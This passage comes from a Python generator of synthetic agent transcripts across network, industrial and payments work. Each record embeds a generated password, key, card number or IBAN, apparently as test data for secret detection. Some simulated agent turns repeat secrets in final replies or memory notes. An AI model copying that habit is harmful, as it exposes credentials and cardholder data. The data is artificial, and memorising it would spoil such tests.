    ("reply", f"รหัส Wi-Fi แขก (ACME-Guest) คือ {_pw} ใช้ได้ถึงวันอาทิตย์นี้ครับ"),
], NET), _pw)

_pw = pw_alnum(12)
S("ja", rec([
    ("task", "大阪支店の YAMAHA RTX1220 を入れ替え、PPPoE 設定を移行する"),
    ("tool_call", call("rtx.console", {"host": "rtx-osaka", "lines": [
        "pp select 1", " pp bind lan2", f" pp auth accept pap chap", f" pp auth myname osk{dg(6)}@isp.example.jp {_pw}",
        " ppp lcp mru on 1454", " ip pp mtu 1454", " pp enable 1"]})),
    ("tool_output", "# save\nセーブ中... CONFIG0 終了"),
    ("lesson", "PPPoE の認証情報は show config に平文で出るので、ログ共有時は必ずマスクすること。"),
], NET), _pw)

_sec = pw_alnum(20)
S("en", f"""(Cisco Controller) >config radius auth add 3 {ip10()} 1812 ascii {_sec}
(Cisco Controller) >config radius auth enable 3
(Cisco Controller) >show radius summary
Vendor Id Backward Compatibility................. Disabled
Call Station Id Case............................. lower
Authentication Servers
Idx  Type  Server Address    Port    State     Tout  MgmtTout RFC3576
---  ----  ----------------  ------  --------  ----  -------- -------
3    NM    {ip10()}          1812    Enabled   5     5        Disabled
# netops-agent transcript saved {ts()}; shared secret visible in the first command""", _sec)

_pw = pw_rand(12, "!#@")
S("ko", rec([
    ("task", "판교 사무실 L3 스위치 enable 비밀번호 변경 (보안 점검 지적사항)"),
    ("tool_call", call("netmiko.send_config", {"host": "pg-l3-01", "commands": [f"enable secret 0 {_pw}", "service password-encryption"]})),
    ("tool_output", "pg-l3-01(config)#end"),
    ("final", f"변경 완료. 새 enable 비밀번호 {_pw} 는 네트워크팀 금고에 등록 예정입니다."),
], NET), _pw)

_priv = wg_key()
_pub = wg_key()
S("en", f"""# /etc/wireguard/wg0.conf on jump-host jh-ams-1 (captured by netops-agent while debugging handshake timeouts)
[Interface]
Address = 10.99.0.1/24
ListenPort = 51820
PrivateKey = {_priv}

[Peer]
# noc-laptop-07
PublicKey = {_pub}
AllowedIPs = 10.99.0.7/32
PersistentKeepalive = 25""", _priv)

# ---- C. industrial & IoT --------------------------------------------------
_section("C")
_pw = pw_alnum(16)
S("en", rec([
    ("task", "Verify that line-3 temperature sensors still publish to the plant MQTT broker"),
    ("tool_call", call("shell.exec", {"cmd": f"mosquitto_sub -h mqtt.plant-a.local -p 8883 --cafile /etc/ssl/plant-ca.pem -u line3-reader -P '{_pw}' -t 'plant/a/line3/+/temp' -C 5 -v"})),
    ("tool_output", "\n".join(f"plant/a/line3/TT-30{i}/temp {{\"v\":{_r.uniform(60, 80):.2f},\"ts\":{ts('epoch')}}}" for i in range(1, 4))),
    ("final", "Sensors TT-301..303 publishing normally."),
], OT), _pw)

_pw = pw_alnum(14)
S("de", rec([
    ("task", "Node-RED-Flow für die Druckluftüberwachung auf die neue Broker-Instanz umziehen"),
    ("thought", "Die Broker-Zugangsdaten stehen im exportierten Flow, weil jemand 'credentials' mit exportiert hat."),
    ("tool_output", json.dumps([{"id": hx(16), "type": "mqtt-broker", "name": "broker-halle4", "broker": "10.40.1.15", "port": "1883",
                                  "clientid": "nodered-druckluft", "credentials": {"user": "nr_druckluft", "password": _pw}}], ensure_ascii=False)),
    ("lesson", "Flows nur ohne Credentials exportieren (Option 'Zugangsdaten nicht exportieren')."),
], OT), _pw)

_pw = pw_alnum(12)
S("en", rec([
    ("task", "Add loading-dock camera CAM-DOCK-04 to the Frigate NVR"),
    ("tool_call", call("file.append", {"path": "/opt/frigate/config.yml", "content":
        f"  dock04:\n    ffmpeg:\n      inputs:\n        - path: rtsp://admin:{_pw}@{ip10()}:554/Streaming/Channels/101\n          roles: [detect, record]\n    detect:\n      width: 1280\n      height: 720"})),
    ("tool_output", "frigate restarted; dock04 fps=5 detect=ok"),
    ("lesson", "Use a dedicated viewer account on the camera instead of admin in RTSP URLs."),
], OT), _pw)

_pw = pw_rand(12, "#@!")
S("zh", rec([
    ("task", "仓库 NVR（海康 DS-7616NI）无法远程查看，检查通道状态"),
    ("thought", "供应商提供的管理员账号：admin，密码见下方。"),
    ("note", f"NVR 管理地址 http://{ip10()}  用户 admin  密码 {_pw}  序列号 DS-7616NI-K2{dg(9)}"),
    ("tool_call", call("isapi.get", {"url": "/ISAPI/ContentMgmt/InputProxy/channels/status"})),
    ("tool_output", "16 channels: 14 online, 2 offline (D7, D12)"),
    ("final", "两个通道离线，已派现场工程师检查 PoE 交换机。"),
], OT), _pw)

_guek = HX(32)
_gak = HX(32)
S("en", rec([
    ("task", "Read the load profile from meter SN " + dg(8) + " over the optical probe (DLMS/COSEM, HLS security suite 0)"),
    ("tool_call", call("gurux.read", {"port": "COM4", "client": 1, "server": 1, "authentication": "HighGMAC",
                                       "systemTitle": HX(16), "blockCipherKey": _guek, "authenticationKey": _gak,
                                       "obis": "1.0.99.1.0.255"})),
    ("tool_output", "96 rows read; invocation counter 0x" + HX(8)),
    ("thought", "The global unicast encryption key (GUEK) and GAK came from the utility's key file for this batch."),
], OT), _guek)

_pw = pw_alnum(10)
S("nl", rec([
    ("task", "Modbus-gateway in het gemaal Zuidhaven herstarten na firmware-update"),
    ("tool_call", call("http.post", {"url": f"http://{ip10()}/cgi-bin/login.cgi", "form": {"username": "admin", "password": _pw}})),
    ("tool_output", "302 Found -> /status.html  session=ok"),
    ("final", "Gateway herstart; registers 40001-40120 worden weer gelezen door de SCADA."),
    ("lesson", "Het beheerwachtwoord van de gateway staat nu in dit geheugen – moet na de klus gewijzigd worden."),
], OT), _pw)

_pw = pw_alnum(12)
S("en", rec([
    ("task", "Document PLC access levels for Line 2 (S7-1516F) before the FAT"),
    ("note", f"TIA Portal project Line2_v14.ap17 / CPU protection: 'Full access incl. fail-safe' password = {_pw} ; HMI access password set separately"),
    ("thought", "This note is meant for the commissioning binder; the password should not live in agent memory."),
    ("final", "Access levels documented; recommended moving the password to the OT vault."),
], OT), _pw)

_pw = pw_human()
S("pl", rec([
    ("task", "Zalogować się do bramy Ignition w oczyszczalni i sprawdzić alarmy pomp"),
    ("note", f"Dane od integratora: https://ignition-oczysz.local:8043  użytkownik: scada_admin  hasło: {_pw}"),
    ("tool_call", call("ignition.alarms.query", {"state": "ActiveUnacked", "source": "prov:default:/tag:Pompy/*"})),
    ("tool_output", "P3: Over-current (ActiveUnacked since " + ts() + ")"),
    ("final", "Alarm pompy P3 przekazany do utrzymania ruchu."),
], OT), _pw)

_pemtxt, _lines = pem("RSA PRIVATE KEY", 1180, RSA_PFX)
S("en", rec([
    ("task", "Provision AWS IoT thing 'meter-gw-" + dg(5) + "' and write its credentials to the gateway"),
    ("tool_call", call("aws.iot.create_keys_and_certificate", {"setAsActive": True})),
    ("tool_output", f"certificateArn: arn:aws:iot:eu-west-1:{dg(12)}:cert/{hx(64)}\nkeyPair.PrivateKey:\n{_pemtxt}"),
    ("thought", "Write the private key to /etc/greengrass/device.key with mode 0400 and drop it from the log."),
], OT), _lines[5])

_key = b64(32)
S("es", rec([
    ("task", "Registrar el sensor de caudal FL-118 en Azure IoT Hub y probar el envío de telemetría"),
    ("tool_call", call("az.cli", {"args": ["iot", "hub", "device-identity", "connection-string", "show", "-n", "iothub-agua-prod", "-d", "FL-118"]})),
    ("tool_output", json.dumps({"connectionString": f"HostName=iothub-agua-prod.azure-devices.net;DeviceId=FL-118;SharedAccessKey={_key}"})),
    ("final", "Telemetría recibida (3 mensajes). Cadena de conexión cargada en el firmware del sensor."),
], OT), _key)

_tok = jwt({"iss": hx(32), "iat": int(ts("epoch")), "exp": int(ts("epoch")) + 315360000}, alg="HS256", sig=32)
S("en", rec([
    ("task", "Let the OT agent read the boiler-room sensors from Home Assistant"),
    ("tool_call", call("http.get", {"url": "http://ha.facilities.local:8123/api/states/sensor.boiler_flow_temp",
                                     "headers": {"Authorization": f"Bearer {_tok}"}})),
    ("tool_output", '{"entity_id":"sensor.boiler_flow_temp","state":"71.5","attributes":{"unit_of_measurement":"°C"}}'),
    ("lesson", "Long-lived HA tokens are valid for 10 years; create a scoped user instead."),
], OT), _tok)

_appkey = HX(32)
S("sv", rec([
    ("task", "Registrera nya LoRaWAN-fuktgivare i källaren på Kungsgatan i ChirpStack"),
    ("tool_call", call("chirpstack.device.create", {"devEui": hx(16), "joinEui": "0000000000000000", "applicationId": guid(), "deviceProfile": "rh-sensor-eu868"})),
    ("tool_call", call("chirpstack.device.keys", {"nwkKey": _appkey})),
    ("tool_output", "ok"),
    ("final", f"Givaren ansluten (OTAA). AppKey {_appkey} finns även på leverantörens följesedel."),
], OT), _appkey)

_nk = ":".join(hx(2) for _ in range(16))
S("en", rec([
    ("task", "Migrate Zigbee network from the old coordinator to the new SLZB-06 without re-pairing 63 devices"),
    ("tool_call", call("z2m.backup.read", {"file": "/opt/zigbee2mqtt/data/coordinator_backup.json"})),
    ("tool_output", f'{{"pan_id":"0x{hx(4)}","extended_pan_id":"{hx(16)}","channel":15,"network_key":{{"key":"{_nk.replace(":", "")}","sequence_number":0}}}}'),
    ("thought", "Network key must be copied exactly; otherwise every device needs re-pairing."),
], OT), _nk.replace(":", ""))

_pw = pw_alnum(10)
S("tr", rec([
    ("task", "Otopark kameralarını ONVIF ile VMS'e ekle"),
    ("tool_call", call("onvif.add_camera", {"ip": ip10(), "port": 80, "user": "onvif_vms", "password": _pw, "profile": "Profile_1"})),
    ("tool_output", f"GetDeviceInformation: Manufacturer=Dahua Model=IPC-HFW2431S Serial={rs(15, UP + DG)}"),
    ("lesson", "Kamera şifreleri VMS kasasında tutulmalı; bu kayıt temizlenmeli."),
], OT), _pw)

_pw = pw_rand(16)
S("en", json.dumps({
    "ts": ts("isoms"), "agent": OT, "kind": "tool_call", "tool": "opcua.connect",
    "arguments": json.dumps({"endpoint": "opc.tcp://kepware-01.plant.local:49320", "securityPolicy": "Basic256Sha256",
                             "securityMode": "SignAndEncrypt", "username": "agent_ro", "password": _pw}),
    "thought": "read-only OPC UA user for historian backfill",
}, ensure_ascii=False), _pw)

_key = rs(32, LO + DG)
S("hi", rec([
    ("task", "स्मार्ट मीटर HES से पिछले 24 घंटे की रीडिंग निकालनी है (फ़ीडर F-112)"),
    ("tool_call", call("http.get", {"url": "https://hes.discom.example/api/v2/reads?feeder=F-112&hours=24", "headers": {"x-api-key": _key}})),
    ("tool_output", f"1184 readings, 7 meters missing (comm fail) batch={guid()}"),
    ("final", "रिपोर्ट तैयार; 7 मीटरों की सूची फ़ील्ड टीम को भेजी।"),
], OT), _key)

_pw = pw_alnum(9)
S("it", rec([
    ("task", "Ripristinare l'accesso web al gateway Modbus TCP della cabina elettrica"),
    ("thought", "Il tecnico ha resettato il gateway, la password di fabbrica è stata cambiata da lui."),
    ("note", f"Nuova password web gateway (utente admin): {_pw} — comunicata dal tecnico Rossi alle {ts('log')}"),
    ("final", "Accesso ripristinato, mappa registri verificata."),
], OT), _pw)

_pw = pw_alnum(18)
S("en", rec([
    ("task", "Add a read-only dashboard user to the EMQX cluster for the NOC wallboard"),
    ("tool_call", call("http.post", {"url": "http://emqx-01:18083/api/v5/users", "auth": "admin:${EMQX_ADMIN_PW}",
                                      "body": {"username": "noc-wall", "password": _pw, "role": "viewer"}})),
    ("tool_output", '{"username":"noc-wall","role":"viewer","description":""}'),
    ("final", "User noc-wall created (viewer)."),
], OT), _pw)

_pw = pw_alnum(12)
_wifi = pw_alnum(14)
S("vi", "// secrets.h — firmware cảm biến nhiệt độ kho lạnh (ESP32), commit " + sha1h()[:8] + f"""
#pragma once
#define WIFI_SSID      "KHO-LANH-02"
#define WIFI_PASSWORD  "{_wifi}"
#define MQTT_HOST      "mqtt.kholanh.local"
#define MQTT_USER      "esp32-kl02"
#define MQTT_PASS      "{_pw}"
// Ghi chú của agent: file này bị commit nhầm lên repo, cần đổi mật khẩu MQTT và Wi-Fi""", _pw)

_tok = hx(40)
S("en", rec([
    ("task", "Check which Particle Boron trackers on the cold-chain trucks missed their last check-in"),
    ("tool_call", call("shell.exec", {"cmd": f"curl -s https://api.particle.io/v1/devices -H 'Authorization: Bearer {_tok}' | jq '.[] | select(.online==false) | .name'"})),
    ("tool_output", '"truck-07"\n"truck-12"'),
    ("final", "truck-07 and truck-12 offline since " + ts() + "."),
], OT), _tok)

_pw = pw_human()
S("fi", rec([
    ("task", "Kiinteistöautomaation (BACnet) valvomon kirjautuminen ei toimi Oulun kohteessa"),
    ("note", f"Huoltoyhtiön viesti: käyttäjä 'valvomo', salasana {_pw} , palvelin {ip10()}"),
    ("thought", "Testaan kirjautumisen ja pyydän vaihtamaan salasanan, koska se on tallentunut tähän muistiin."),
    ("tool_output", "login OK; 412 BACnet objects, 3 in alarm"),
], OT), _pw)

# ---- D. banking back office & payments ------------------------------------
_section("D")
_ib_d = iban("DE")
_ib_c = iban("GB")
_uetr = guid()
S("en", rec([
    ("task", f"Investigate why outgoing MT103 ref PAY{dg(10)} is stuck in the repair queue"),
    ("tool_call", call("swift.alliance.get_message", {"queue": "_SI_from_SWIFT_repair", "uetr": _uetr})),
    ("tool_output", f"""{{1:F01ACMEDEFFAXXX{dg(10)}}}{{2:I103NWBKGB2LXXXXN}}{{3:{{121:{_uetr}}}}}{{4:
:20:PAY{dg(10)}
:23B:CRED
:32A:26{dg(4)}EUR48250,00
:50K:/{_ib_d}
ACME INDUSTRIE GMBH
HAFENSTRASSE 12, 20457 HAMBURG
:59:/{_ib_c}
NORTHWIND SUPPLY LTD
:70:INV 2026-1187
:71A:SHA
-}}"""),
    ("thought", "Repair reason T26: beneficiary bank in :57A: missing; beneficiary account itself validates (mod-97 OK)."),
    ("final", "Added :57A:NWBKGB2L and released to the operator for 4-eyes approval."),
], PAY), _ib_c)

_ib = iban("DE")
_ib2 = iban("DE")
S("de", rec([
    ("task", "SEPA-Sammelüberweisung (pain.001) für Lieferantenzahlungen KW 46 prüfen, Bank meldet Formatfehler"),
    ("tool_output", f"""<PmtInf><PmtInfId>LIEF-KW46-{dg(4)}</PmtInfId><PmtMtd>TRF</PmtMtd>
  <Dbtr><Nm>Muster Logistik GmbH</Nm></Dbtr>
  <DbtrAcct><Id><IBAN>{_ib}</IBAN></Id></DbtrAcct>
  <DbtrAgt><FinInstnId><BICFI>COBADEFFXXX</BICFI></FinInstnId></DbtrAgt>
  <CdtTrfTxInf><PmtId><EndToEndId>E2E-{hx(12).upper()}</EndToEndId></PmtId>
    <Amt><InstdAmt Ccy="EUR">1840.00</InstdAmt></Amt>
    <CdtrAcct><Id><IBAN>{_ib2}</IBAN></Id></CdtrAcct>"""),
    ("thought", "Fehler liegt am fehlenden <ReqdExctnDt>; IBANs sind gültig. Auftraggeberkonto steht im Klartext im Speicher."),
    ("final", "Datei korrigiert und erneut hochgeladen, Status ACCP."),
], PAY), _ib)

_pan = pan("4" + dg(5))
S("en", f"""{ts('log')} INFO  [auth-switch-3] rx ISO8583 mti=0100 stan={dg(6)} tid=T{dg(7)} mid={dg(15)}
{ts('log')} DEBUG [auth-switch-3] de2={_pan} de3=000000 de4=000000004599 de14=2811 de22=071 de49=978
{ts('log')} INFO  [auth-switch-3] tx mti=0110 de38={rs(6, UP + DG)} de39=00 rrn={dg(12)}
{ts('log')} WARN  [payments-backoffice] PCI: debug level on auth-switch-3 writes full PAN (de2); incident {tk('PCI-', 4)} opened""", _pan)

_pan = pan("5" + str(_r.randint(1, 5)) + dg(4))
S("en", rec([
    ("task", f"Chargeback dispute CB-{dg(7)}: collect evidence for the acquirer portal"),
    ("tool_call", call("crm.ticket.get", {"id": tk("CS-", 7)})),
    ("tool_output", f"Customer wrote: 'I never made this purchase. My card is {fmt4(_pan)} exp 09/28, please cancel it.'"),
    ("thought", "Customer pasted the full card number into the support form. Must not be copied into the dispute narrative."),
    ("final", "Dispute evidence submitted using masked PAN " + mask_pan(_pan) + "."),
], PAY), fmt4(_pan))

_ib = iban("FR")
S("fr", rec([
    ("task", "Demande de changement de RIB du fournisseur « Transports Mercier » reçue par e-mail"),
    ("note", f"E-mail reçu : « Merci de mettre à jour nos coordonnées bancaires : IBAN {fmt_iban(_ib)} BIC {rs(4, UP)}FRPP{rs(3, UP + DG)} »"),
    ("thought", "Changement de RIB par e-mail = scénario classique de fraude au président. Contre-appel obligatoire au numéro connu."),
    ("final", "Changement suspendu en attente du contre-appel (procédure FRAUD-07)."),
], PAY), fmt_iban(_ib))

_pb = HX(16)
S("en", f"""{ts('log')} [pos-gw] term=PX{dg(6)} ksn=FFFF{HX(16)} txn=SALE amt=23.90 EUR
{ts('log')} [pos-gw] TRACE pinblock_fmt=ISO-0 pinblock={_pb} zpk_kcv={HX(6)}
{ts('log')} [pos-gw] resp=00 auth={rs(6, UP + DG)}
# payments-backoffice: trace level on pos-gw logs the online PIN block; PIN blocks must never be persisted (PCI PIN 2-3)""", _pb)

_comp = HX(32)
S("en", rec([
    ("task", "Prepare key-loading session for new NCR ATMs at branch 0417 (TMK ceremony)"),
    ("note", f"Custodian A component 1 (clear): {fmt4(_comp)}  KCV {HX(6)}"),
    ("thought", "A clear key component must never be typed into a ticket or memory; only the KCV should be recorded."),
    ("final", "Ceremony rescheduled; component A must be regenerated because it was exposed here."),
], PAY), fmt4(_comp))

_pan = pan("4" + dg(5))
_cvv = dg(3)
S("es", rec([
    ("user", f"Hola, quiero pagar la factura pendiente por teléfono. Tarjeta {fmt4(_pan, '-')} caducidad 04/29 y el código de seguridad es {_cvv}."),
    ("thought", "El cliente ha escrito la tarjeta completa y el CVV en el chat. No se puede procesar así (PCI DSS)."),
    ("reply", "Por seguridad no podemos aceptar datos de tarjeta por chat. Le envío un enlace de pago seguro."),
], PAY), fmt4(_pan, "-"))

_pan = pan("5" + str(_r.randint(1, 5)) + dg(4))
S("pt", rec([
    ("task", "Cliente pede estorno de compra duplicada"),
    ("note", f"Dados informados pelo cliente: cartão {_pan}, validade 11/27, CVV {dg(3)}, CPF {cpf()}"),
    ("thought", "Dados completos do cartão foram registados na memória — remover após abrir a disputa."),
    ("final", "Estorno solicitado; protocolo " + tk("EST", 9) + "."),
], PAY), _pan)

_sk = stripe_sk()
S("en", rec([
    ("task", "Reconcile yesterday's Stripe payouts against the ERP"),
    ("tool_call", call("http.get", {"url": "https://api.stripe.com/v1/payouts?limit=10&arrival_date[gte]=" + ts("epoch"),
                                     "auth": {"type": "basic", "username": _sk, "password": ""}})),
    ("tool_output", f'{{"object":"list","data":[{{"id":"po_{rs(24)}","amount":1289044,"currency":"eur","status":"paid"}}]}}'),
    ("final", "1 payout (12,890.44 EUR) matched to ERP document 51000" + dg(5) + "."),
], PAY), _sk)

_ib = iban("NL")
S("nl", rec([
    ("user", f"Ik heb nog geen terugbetaling gehad voor bestelling {dg(9)}. Mijn rekeningnummer is {fmt_iban(_ib)} t.n.v. K. Visser."),
    ("tool_call", call("refunds.create", {"order": dg(9), "method": "sepa_credit", "iban": _ib, "name": "K. Visser"})),
    ("tool_output", "refund RF-" + dg(8) + " queued for next SEPA batch"),
    ("reply", "De terugbetaling staat klaar voor de volgende batch (1-2 werkdagen)."),
], PAY), fmt_iban(_ib))

_wh = "whsec_" + rs(32)
S("en", "# .env.production (attached to ticket " + tk("PAY-", 4) + " by mistake)\n" + f"""NODE_ENV=production
STRIPE_PUBLISHABLE_KEY=pk_live_{rs(24)}
STRIPE_WEBHOOK_SECRET={_wh}
PAYOUT_RECON_CRON="15 6 * * *"
SENTRY_ENVIRONMENT=prod""", _wh)

_ib = iban("PL")
S("pl", rec([
    ("task", "Zwrot nadpłaty dla klienta – sprawa " + tk("ZW/", 5)),
    ("note", f"Klient podał numer rachunku: {fmt_iban(_ib)[0:4]}{fmt_iban(_ib)[4:]}"),
    ("tool_call", call("elixir.przelew", {"rachunek": _ib, "kwota": "312,40", "tytul": "Zwrot nadpłaty FV/2026/" + dg(5)})),
    ("tool_output", "status=PRZYJETY sesja=2"),
], PAY), _ib)

_pw = pw_rand(16)
S("en", rec([
    ("task", "Bank rejected our SFTP login for the daily camt.053 statement pickup"),
    ("tool_call", call("shell.exec", {"cmd": f"sshpass -p '{_pw}' sftp -oBatchMode=no -oPort=2222 acme_treasury@sftp.bankexample.com <<< 'ls /outbox'"})),
    ("tool_output", "Permission denied (password,publickey)."),
    ("thought", "Password expired after 90 days per bank policy; need the new one from the treasury team. Should switch to key auth."),
], PAY), _pw)

_ib = iban("IT")
S("it", rec([
    ("task", "Bonifico di rimborso al cliente per pratica " + tk("RIM-", 6)),
    ("note", f"Coordinate fornite dal cliente via PEC: IBAN {_ib} intestato a Giulia Conti"),
    ("tool_call", call("cbi.bonifico", {"iban_beneficiario": _ib, "importo": "220,00", "causale": "Rimborso pratica"})),
    ("tool_output", "CRO " + dg(11) + " - esito: OK"),
], PAY), _ib)

_ib = iban("SA")
S("ar", rec([
    ("user", f"أرجو تحويل المستحقات إلى حسابي الجديد، رقم الآيبان: {fmt_iban(_ib)} باسم محمد العتيبي"),
    ("thought", "طلب تغيير حساب بنكي عبر المحادثة؛ يجب التحقق عبر القناة الرسمية قبل التنفيذ."),
    ("reply", "تم استلام الطلب، سيتواصل معك فريق المالية للتحقق قبل تعديل بيانات الحساب."),
], PAY), fmt_iban(_ib))

_pan = pan("4" + dg(5))
_t2 = f"{_pan}=2809{_r.choice(['101', '201'])}{dg(14)}"
S("en", f"""{ts('log')} ISO8583 DUMP (atm-host-2, debug ON) -- captured by payments-backoffice for INC {tk('INC', 7)}
  MTI  0200
  DE3  011000
  DE4  000000020000
  DE11 {dg(6)}
  DE35 {_t2}
  DE41 ATM{dg(5)}
  DE43 ACME BANK BRANCH 0417 LEEDS GB
  DE52 [binary 8 bytes]
note: DE35 is full track-2 equivalent data; dump must be purged""", _t2)

_pw = pw_human()
S("en", rec([
    ("task", "Customer cannot log in to online banking after device change"),
    ("user", f"i tried everything, my login is 8821{dg(4)} and password {_pw}, the app keeps saying wrong credentials"),
    ("thought", "Customer shared the online-banking password in chat. Force reset and warn the customer; never use it."),
    ("reply", "For your security we have blocked this password. Please set a new one via 'Forgot password'."),
], PAY), _pw)

_ib = iban("TR")
S("tr", rec([
    ("task", "Tedarikçi ödemesi iade edildi – hesap bilgisi kontrolü"),
    ("note", f"Tedarikçinin bildirdiği IBAN: {fmt_iban(_ib)} (Kaya Tekstil A.Ş.)"),
    ("thought", "İade nedeni 'hesap kapalı'. Tedarikçiden yeni IBAN istendi."),
], PAY), fmt_iban(_ib))

_acct = dg(_r.choice([9, 10, 12]))
_rt = aba_routing()
S("en", rec([
    ("task", "Set up ACH direct deposit for new employee (payroll change " + tk("PR-", 5) + ")"),
    ("tool_call", call("adp.payroll.direct_deposit.add", {"employee": "E" + dg(6), "routingNumber": _rt, "accountNumber": _acct, "accountType": "checking", "percent": 100})),
    ("tool_output", "prenote scheduled " + ts("date")),
    ("final", "Direct deposit added; prenote runs with next payroll."),
], PAY), _acct)

_pan = pan("35" + str(_r.randint(28, 89)) + dg(2))
S("ja", rec([
    ("user", f"先月の請求が二重になっています。カード番号は {fmt4(_pan)} です。確認お願いします。"),
    ("thought", "お客様がカード番号全桁をチャットに記載。マスクして記録し直す必要あり。"),
    ("reply", "ご連絡ありがとうございます。安全のため、カード番号はチャットに書かないでください。下4桁で確認いたします。"),
], PAY), fmt4(_pan))

_pan = pan("5" + str(_r.randint(1, 5)) + dg(4))
S("ko", rec([
    ("user", f"결제가 계속 거절돼요. 카드번호 {fmt4(_pan, '-')} 유효기간 07/28 입니다."),
    ("tool_call", call("pg.auth.lookup", {"masked_pan": mask_pan(_pan), "since": "24h"})),
    ("tool_output", "3 declines, response 05 (Do not honor) from issuer"),
    ("reply", "발급사에서 거절하고 있습니다. 카드사에 문의해 주세요. 카드번호는 채팅에 남기지 않도록 부탁드립니다."),
], PAY), fmt4(_pan, "-"))

_pan = pan("62" + dg(4), 19)
S("zh", rec([
    ("task", "商户投诉：退款未到账"),
    ("note", f"持卡人提供卡号 {_pan}，交易时间 {ts('log')}，金额 ¥1,288.00"),
    ("thought", "卡号应只保留前六后四，其余需脱敏。"),
    ("final", "已向银联提交查询，参考号 " + dg(12) + "。"),
], PAY), _pan)

_pan = pan("37" + dg(4), 15)
_cid = dg(4)
S("en", f"""From: corporate-cards@acme.example
Subject: Re: travel card for new VP
Date: {ts()}

Hi team, card is active. Details for the booking tool profile:
  Card: AMEX {fmt_amex(_pan)}
  Exp:  03/29   CID: {_cid}
Please don't forward this email.
-- payments-backoffice memory: stored because the agent summarised the thread""", fmt_amex(_pan))

_ib = iban("IL")
S("he", rec([
    ("task", "עדכון פרטי חשבון בנק של עובד לתשלום משכורת"),
    ("note", f"העובד שלח: IBAN {_ib} , בנק לאומי, סניף {dg(3)}"),
    ("thought", "יש לאמת את הבקשה מול העובד בטלפון לפני שינוי במערכת השכר."),
], PAY), _ib)

_ib = iban("SE")
S("sv", rec([
    ("task", "Leverantören Nordbygg AB har bytt bank – uppdatera i affärssystemet"),
    ("note", f"Nytt konto enligt brev på leverantörens brevpapper: IBAN {fmt_iban(_ib)}, BIC {_r.choice(['ESSESESS', 'HANDSESS', 'SWEDSESS', 'NDEASESS'])}"),
    ("thought", "Kontrollring till känt nummer genomfört " + ts("date") + "."),
    ("final", "Leverantörsregistret uppdaterat."),
], PAY), fmt_iban(_ib))

_ib = iban("UA")
S("uk", rec([
    ("task", "Повернення коштів клієнту за договором " + tk("Д-", 6)),
    ("note", f"Реквізити від клієнта: IBAN {_ib}, отримувач Коваленко О.П., РНОКПП {rnokpp()}"),
    ("tool_call", call("bank.payment.create", {"iban": _ib, "amount": "4 150,00 UAH", "purpose": "Повернення коштів"})),
    ("tool_output", "status=ACCEPTED"),
], PAY), _ib)

_pan = pan("4" + dg(5))
S("en", rec([
    ("task", "Debug 'invalid_card' errors from the card-processor sandbox integration"),
    ("tool_call", call("processor.api.post", {"endpoint": "/v2/payments", "body": {"amount": 1200, "currency": "GBP", "source": {"type": "card", "number": _pan, "expiry_month": 6, "expiry_year": 2029, "cvv": dg(3)}}})),
    ("tool_output", '{"error_type":"request_invalid","error_codes":["card_number_invalid"],"request_id":"' + guid() + '"}'),
    ("thought", "This is a PRODUCTION card someone pasted into the sandbox test - must be removed and the card owner informed."),
], PAY), _pan)

_ib = iban("CZ")
S("cs", rec([
    ("task", "Vrácení přeplatku zákazníkovi – reklamace " + tk("RK", 6)),
    ("note", f"Číslo účtu zákazníka: IBAN {fmt_iban(_ib)}"),
    ("tool_call", call("bank.platba", {"iban": _ib, "castka": "1 250,00 CZK", "vs": dg(10)})),
    ("tool_output", "platba zařazena"),
], PAY), fmt_iban(_ib))

_pan = pan("2200" + dg(2))
S("ru", rec([
    ("user", f"Оплата не проходит, карта Мир {fmt4(_pan)}, срок 12/28. Что делать?"),
    ("thought", "Клиент указал полный номер карты в чате. Маскировать в CRM."),
    ("reply", "Пожалуйста, не отправляйте номер карты в чат. Проверим по последним четырём цифрам: " + _pan[-4:] + "."),
], PAY), fmt4(_pan))

# ---- E. data engineering --------------------------------------------------
_section("E")
_pw = pw_alnum(22)
S("en", rec([
    ("task", "Airflow DAG 'orders_daily' fails at task load_to_warehouse with 'password authentication failed'"),
    ("tool_call", call("k8s.exec", {"pod": "airflow-scheduler-0", "cmd": "env | grep AIRFLOW_CONN_"})),
    ("tool_output", f"AIRFLOW_CONN_WAREHOUSE_PG=postgresql://etl_loader:{_pw}@pg-dwh.internal:5432/dwh?sslmode=require\nAIRFLOW_CONN_S3_RAW=aws://?region_name=eu-central-1"),
    ("thought", "Connection string in env var still has the old password; the DB password was rotated on " + ts("date") + "."),
    ("final", "Updated the K8s secret airflow-conns; DAG re-run succeeded."),
], DE), _pw)

_pw = pw_rand(20)
S("en", f"""# ~/.dbt/profiles.yml on analytics-runner-03 (pasted into memory by data-eng-copilot while debugging 'Incorrect username or password')
acme_analytics:
  target: prod
  outputs:
    prod:
      type: snowflake
      account: {rs(2, LO)}{dg(5)}.eu-central-1
      user: DBT_PROD
      password: "{_pw}"
      role: TRANSFORMER
      warehouse: TRANSFORM_WH
      database: ANALYTICS
      schema: marts
      threads: 8""", _pw)

_ak, _sk = aws_akid(), aws_secret()
S("de", rec([
    ("task", "Spark-Job liest keine Parquet-Dateien aus s3a://rohdaten-bucket/events/"),
    ("thought", "Im Notebook wurden die Schlüssel direkt in die Hadoop-Konfiguration geschrieben – das muss raus."),
    ("tool_output", f"""In [7]:
spark._jsc.hadoopConfiguration().set("fs.s3a.access.key", "{_ak}")
spark._jsc.hadoopConfiguration().set("fs.s3a.secret.key", "{_sk}")
df = spark.read.parquet("s3a://rohdaten-bucket/events/dt=2026-10-0*/")
Out[7]: AnalysisException: [PATH_NOT_FOUND]"""),
    ("final", "Pfad war falsch (dt= statt date=). Schlüssel aus dem Notebook entfernt, Instance-Profile verwenden."),
], DE), _sk)

_key = rs(16, UP + DG)
_secret = rs(64, B64)
S("en", f"""# client.properties used by kcat in ticket {tk('DATA-', 4)}
bootstrap.servers=pkc-{rs(5, LO + DG)}.eu-west-1.aws.confluent.cloud:9092
security.protocol=SASL_SSL
sasl.mechanisms=PLAIN
sasl.jaas.config=org.apache.kafka.common.security.plain.PlainLoginModule required username="{_key}" password="{_secret}";
client.dns.lookup=use_all_dns_ips
session.timeout.ms=45000
# data-eng-copilot: consumer group orders-enricher lag 1.2M, investigating""", _secret)

_pp = passphrase(4)
S("fr", rec([
    ("task", "Connexion Python à Snowflake par paire de clés pour le service de reporting"),
    ("tool_call", call("python.exec", {"code":
        "from cryptography.hazmat.primitives import serialization\n"
        "with open('/secrets/rsa_key.p8','rb') as f:\n"
        f"    pk = serialization.load_pem_private_key(f.read(), password=b'{_pp}')\n"
        "conn = snowflake.connector.connect(user='SVC_REPORTING', account='xy12345.eu-west-3', private_key=pk)"})),
    ("tool_output", "Connected. CURRENT_ROLE()=REPORTING_RO"),
